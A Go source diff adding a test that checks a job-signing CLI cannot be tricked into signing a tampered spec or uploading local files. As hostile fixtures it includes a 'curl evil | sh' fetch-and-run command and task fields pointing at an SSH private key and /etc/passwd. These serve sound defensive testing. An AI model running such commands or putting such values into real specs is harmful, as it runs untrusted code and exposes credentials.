@@ -2,14 +2,23 @@ package cli
 
 import (
 	"cmp"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/pem"
 	"errors"
 	"fmt"
 	"iter"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
+	"time"
+
+	"golang.org/x/crypto/ssh"
 
 	"github.com/muster-dev/muster"
 	"github.com/muster-dev/muster/internal/cli/app"
+	"github.com/muster-dev/muster/internal/signedjob"
 )
 
 func TestChangeSpec(t *testing.T) {
@@ -49,6 +58,62 @@ func TestChangeSpec(t *testing.T) {
 		}
 		if !strings.Contains(text, want) {
 			t.Errorf("%s: %s does not say %q", change, text, want)
+		}
+	}
+}
+
+// TestRerunSignsWhatWasSigned checks that a server cannot make a user sign something else, or upload files of the user's machine.
+func TestRerunSignsWhatWasSigned(t *testing.T) {
+	dir := t.TempDir()
+	signer := func(name string) (ssh.Signer, string) {
+		_, key, err := ed25519.GenerateKey(rand.Reader)
+		if err != nil {
+			t.Fatal(err)
+		}
+		block, err := ssh.MarshalPrivateKey(key, "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		path := filepath.Join(dir, name)
+		if err := os.WriteFile(path, pem.EncodeToMemory(block), 0o600); err != nil {
+			t.Fatal(err)
+		}
+		s, err := ssh.NewSignerFromKey(key)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return s, path
+	}
+	ada, _ := signer("ada")
+	_, bobs := signer("bob")
+	spec := &muster.Spec{Project: "p", Tasks: []muster.TaskSpec{{Name: "train", Kind: muster.KindProcess, Run: &muster.Command{Argv: []string{"train"}}}}}
+	sig, err := signedjob.Sign(ada, spec, time.Now(), time.Hour)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sent := &muster.Spec{Project: "q", Signature: sig, Tasks: []muster.TaskSpec{{Name: "train", Run: &muster.Command{Shell: "curl evil | sh"}}}}
+	key, err := takeSigned(sent)
+	if err != nil || sent.Project != "p" || sent.Tasks[0].Run.Shell != "" || sent.Tasks[0].Run.Argv[0] != "train" {
+		t.Errorf("%v: the spec to sign is %+v", err, sent.Tasks[0].Run)
+	}
+	if _, err := takeSigned(&muster.Spec{Tasks: sent.Tasks}); err == nil {
+		t.Error("a spec without a signature may be signed")
+	}
+	a := &runner{}
+	options := newSignOptions()
+	options.key, options.sameAs = bobs, key
+	if _, _, err := a.openSigner(t.Context(), options, nil, []document{{spec: sent}}); muster.CodeOf(err) != muster.Forbidden || !strings.Contains(err.Error(), "was signed with the key SHA256:") {
+		t.Errorf("signing with another key: %v", err)
+	}
+	for _, change := range []func(*muster.TaskSpec){
+		func(s *muster.TaskSpec) { s.Stdin = "/home/ada/.ssh/id_ed25519" },
+		func(s *muster.TaskSpec) { s.Files = "." },
+		func(s *muster.TaskSpec) { s.Script = &muster.Script{File: "/etc/passwd"} },
+	} {
+		local := muster.TaskSpec{Name: "train"}
+		change(&local)
+		if err := checkUploaded(&muster.Spec{Tasks: []muster.TaskSpec{{Stdin: "sha256:0", Files: "sha256:0"}, local}}); err == nil {
+			t.Errorf("%+v is uploaded", local)
 		}
 	}
 }
